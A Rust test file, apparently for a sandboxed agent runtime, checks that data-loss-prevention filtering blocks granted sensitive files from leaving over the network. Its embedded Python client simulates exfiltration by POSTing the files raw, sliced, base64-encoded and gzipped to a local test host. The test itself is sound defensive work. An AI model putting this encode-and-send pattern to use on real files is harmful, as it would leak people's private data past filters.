//! A place marked as sensitive with the real binary: what lies there is known before it can be read, and does not leave in
//! any form.

use crate::inspect::Site;
use crate::support::for_each_user;
use crate::{Guarded, event, events};

/// Reads the files that were granted and sends them in several forms; prints the status and reason of each.
const SENDING: &str = r#"
import base64, gzip, json, sys, urllib.error, urllib.request
letter, note = open("Mail/letter", "rb").read(), open("Mail/note", "rb").read()
other = "".join(chr(97 + (at * at * 7 + at // 26) % 26) + (" " if at % 6 == 5 else "") for at in range(1800)).encode()
for data in other, letter, letter[400:1200], base64.b64encode(letter), gzip.compress(letter), note:
    wish = urllib.request.Request("https://site.test:" + sys.argv[1] + "/ok", method="POST", data=data)
    try:
        print(urllib.request.urlopen(wish, timeout=120).status)
    except urllib.error.HTTPError as error:
        print(error.code, json.loads(error.read())["reason"])
"#;

/// Sentences that are in no other text.
fn letter() -> String {
    let words = [
        "merger", "harbour", "quiet", "ledger", "winter", "contract", "orchard", "signal", "velvet",
        "copper", "margin", "lantern", "border", "willow", "sermon", "gravel",
    ];
    (0..240usize).map(|at| format!("{} ", words[(at * at + 3 * at + at / 7) % words.len()])).collect()
}

#[test]
fn what_was_granted_of_a_sensitive_place_does_not_leave_in_any_form() {
    for_each_user(|home| {
        // The person's commands are outside of the user namespace that others need here, and would be strangers.
        if !home.user.is_root() {
            return;
        }
        let home = &home;
        let site = Site::start(home);
        home.write("work/Mail/letter", &letter());
        home.write("work/Mail/note", "the vault opens at noon\n");
        home.write("work/client.py", SENDING);
        let profile = format!(
            "version: 1\nextends: [cowork]\nconsent: {{ channels: [ui], timeout: 5m }}\n\
             filesystem:\n  - {{ path: $PWD/Mail, access: ask, actions: [read] }}\n\
             network:\n  mode: filtered\n  allow:\n    - {{ host: site.test, port: {}, tls: inspect, networks: [127.0.0.0/8] }}\n",
            site.port
        );
        let profile = home.write("exact.yaml", &profile);
        let port = site.port.to_string();
        let run = site.run(home, profile.to_str().unwrap(), &["python3", "client.py", &port]).start();
        let guarded = Guarded { home, run };
        let id = guarded.asked();
        guarded.person(&["approve", &id]).expect_code(0);
        let output = guarded.end();
        let lines: Vec<String> =
            output.stdout().lines().filter(|line| !line.is_empty()).map(str::to_owned).collect();
        assert_eq!(lines.len(), 6, "{lines:?} {}", output.stderr());
        assert_eq!(lines[0], "200", "the control: another text leaves");
        assert!(lines[1..].iter().all(|line| line == "403 dlp"), "{lines:?}");
        let known = event(home, "known_files");
        assert_eq!(
            (&known["label"], &known["files"], &known["left_out"]),
            (&"mail".into(), &2.into(), &0.into())
        );
        let names: Vec<String> = events(home).into_iter().map(|(name, _)| name).collect();
        let of = |name: &str| names.iter().position(|other| other == name).unwrap();
        assert!(of("grant") < of("known_files"));
        let alerts =
            events(home).into_iter().filter(|(name, data)| name == "network" && data["what"] == "alert");
        let kinds: Vec<String> =
            alerts.map(|(_, data)| data["findings"][0][0].as_str().unwrap().to_owned()).collect();
        assert_eq!(kinds, ["known-file"; 5]);
        let record = home.records().pop().unwrap();
        assert!(!record.contains("vault") && !record.contains("orchard"), "kinds, and no content");
        assert_eq!(std::fs::read_to_string(home.join("site/server.log")).unwrap().lines().count(), 1);
    });
}
